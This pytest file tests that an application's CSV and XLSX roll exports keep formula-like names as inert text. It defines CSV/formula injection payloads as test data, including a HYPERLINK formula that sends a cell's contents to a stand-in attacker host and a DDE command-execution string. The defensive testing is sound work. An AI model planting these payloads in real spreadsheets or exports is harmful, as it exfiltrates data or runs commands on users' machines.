"""A name that looks like a spreadsheet formula downloads as text, never as a live formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import load_workbook

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
)


@pytest.fixture
def officer(browse: Callable[..., Any], tree: Any) -> Any:
    return browse("h01.officer", tree.district, "officer")


@pytest.fixture
def admitted(admit: Callable[..., Any], tree: Any, make_profile: Callable[..., Any]) -> list[Any]:
    return [admit(tree.cell, make_profile(full_name=name)) for name in HOSTILE_NAMES]


def test_formula_like_names_are_quoted_in_the_csv_roll(
    officer: Any, tree: Any, admitted: Any
) -> None:
    answer = officer.get(f"/orgs/{tree.cell}/export/roll.csv")

    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    names = {row[2] for row in rows if len(row) > 2}
    assert answer.status_code == 200
    for name in HOSTILE_NAMES:
        assert "'" + name in names
        assert name not in names


def test_formula_like_names_are_text_cells_in_the_xlsx_roll(
    officer: Any, tree: Any, admitted: Any
) -> None:
    answer = officer.get(f"/orgs/{tree.cell}/export/roll.xlsx")

    sheet = load_workbook(io.BytesIO(answer.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert answer.status_code == 200
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(HOSTILE_NAMES) <= texts  # the name itself, shown as written
